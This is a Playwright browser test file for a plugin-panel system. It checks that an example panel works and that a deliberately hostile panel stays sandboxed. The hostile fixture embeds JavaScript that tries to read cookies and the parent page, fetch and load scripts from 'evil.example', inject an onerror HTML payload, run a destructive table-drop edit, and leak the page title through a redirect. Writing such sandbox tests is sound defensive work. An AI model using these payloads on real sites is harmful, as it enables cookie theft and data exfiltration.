"""Panels of plugins in a real browser: the example does what it promises, a hostile one gets nowhere."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from tests.plugins.installing import example_installed, installed

from .conftest import PICTURES, Open, Site, find_faults, look

HOSTILE = '''
from lutu.kit.i18n import Text
from lutu.plugins.panel import Panel

TRIES = """
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  page: () => parent.document.title,
  fetch: () => fetch("/api/v1/session"),
  away: () => fetch("https://evil.example/"),
  picture: () => new Promise((done, fail) => {
    const picture = new Image();
    picture.onload = done;
    picture.onerror = fail;
    picture.src = "https://evil.example/steal";
  }),
  script: () => new Promise((done, fail) => {
    const script = document.createElement("script");
    script.onload = done;
    script.onerror = fail;
    script.src = "https://evil.example/more.js";
    document.body.append(script);
  }),
  slipped: () => {
    document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.ran = 1'>");
    return new Promise((done, fail) => setTimeout(() => (window.ran ? done() : fail()), 50));
  },
  evil: () => lutu.edit({ op: "drop_tables" }),
  top: () => { top.location = "https://evil.example/"; },
};
(async () => {
  await lutu.isOpen;
  const through = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); through.push(name); } catch {}
  }
  document.body.append("through: " + through.join(","));
})();
"""
WORD = Text("Odd", "怪", "怪")
TRYING = Panel(WORD, TRIES)
FLOODING = Panel(WORD, "lutu.on('look', () => { for (let i = 0; i < 99; i++) lutu.map(); });")
LEAVING = Panel(WORD, "lutu.on('look', () => { location = '/start'; });")
OUTSIDE = Panel(WORD, "lutu.on('look', () => { location = 'https://evil.example/?' + document.title; });")
'''


@pytest.fixture
def example(tmp_path: Path) -> Iterator[None]:
    with example_installed(tmp_path / "site"):
        yield


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[None]:
    source = tmp_path / "source"
    source.mkdir()
    (source / "hostile.py").write_text(HOSTILE, encoding="utf-8")
    names = ("trying", "flooding", "leaving", "outside")
    entries = {"lutu.panels": {name: f"hostile:{name.upper()}" for name in names}}
    with installed(tmp_path / "site", "hostile", entries, source):
        yield


@pytest.fixture
def address(site: Site) -> Iterator[str]:
    """A map that a test may change, with whatever panel is named behind."""
    made = site.ask("POST", "/maps", json={"title": "Plugged", "stages": 4})
    yield f"/map?map={made['id']}&panel=plugin."
    site.ask("DELETE", f"/maps/{made['id']}")


def frame(page: Page) -> FrameLocator:
    return page.frame_locator("aside iframe")


@pytest.mark.usefixtures("example")
def test_the_example_shows_what_is_known_and_puts_a_card_that_one_undo_takes_back(
    open_page: Open, address: str
) -> None:
    page = open_page(f"{address}evidence")
    panel = frame(page)
    expect(panel.get_by_role("heading")).to_have_text("我们知道什么？")
    stages = panel.locator(".stage")
    expect(stages).to_have_count(4)
    look(page, "plugin")
    assert find_faults(page.frames[-1]) == []  # type: ignore[arg-type] # is asked as a page is
    stages.nth(1).focus()
    page.keyboard.press("Enter")
    expect(stages.nth(1)).to_have_attribute("aria-pressed", "true")
    expect(page).to_have_url(re.compile("chosen=stages"))
    panel.get_by_role("textbox").fill("比较<b>运费</b>")
    page.keyboard.press("Enter")
    card = page.locator("li[data-name^='cards:']", has_text="比较<b>运费</b>")
    expect(card).to_be_visible()
    expect(panel.get_by_role("status")).to_contain_text("已放到地图上")
    expect(page.get_by_text("此面板已修改地图 1 次")).to_be_visible()
    page.get_by_role("button", name="撤销", exact=True).click()
    expect(card).to_have_count(0)


@pytest.mark.usefixtures("example")
def test_the_example_is_told_of_what_others_do_and_of_the_night(
    open_page: Open, address: str, site: Site
) -> None:
    page = open_page(f"{address}evidence", phone=True)
    panel = page.frame_locator("[role=dialog] iframe")
    first = panel.locator(".stage .count").first
    expect(first).to_be_visible()
    before = first.text_content() or ""
    known, _, most = before.partition("/")
    map_id = address.split("map=")[1].partition("&")[0]
    stage = site.ask("GET", f"/maps/{map_id}")["stages"][0]["id"]
    card = {"op": "add_card", "stage": stage, "lane": "pain", "text": "贵", "evidence": "observed"}
    site.ask("POST", f"/maps/{map_id}/edits", json={"op": card})
    expect(first).to_have_text(f"{int(known) + 1}/{int(most) + 1}")
    page.emulate_media(color_scheme="dark")
    expect(panel.locator("html")).to_have_attribute("data-theme", "dark")
    page.screenshot(path=PICTURES / "plugin-phone-dark.png")


@pytest.mark.usefixtures("hostile")
def test_a_hostile_panel_reaches_neither_the_page_nor_the_network(
    open_page: Open, address: str
) -> None:
    page = open_page(f"{address}trying", refused=" ")
    expect(frame(page).get_by_text("through:")).to_have_text("through:")
    assert page.url.startswith("http://127.0.0.1")


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize(
    ("name", "said"),
    [("flooding", "不允许的消息"), ("leaving", "跳转到了"), ("outside", "跳转到了")],
)
def test_a_panel_that_talks_too_much_or_leaves_is_closed(
    open_page: Open, address: str, name: str, said: str
) -> None:
    page = open_page(f"{address}{name}", refused=" ")
    expect(page.get_by_role("alert")).to_contain_text(said)
    expect(page.locator("iframe")).to_have_count(0)
    assert [one for one in page.frames if "evil" in one.url] == []
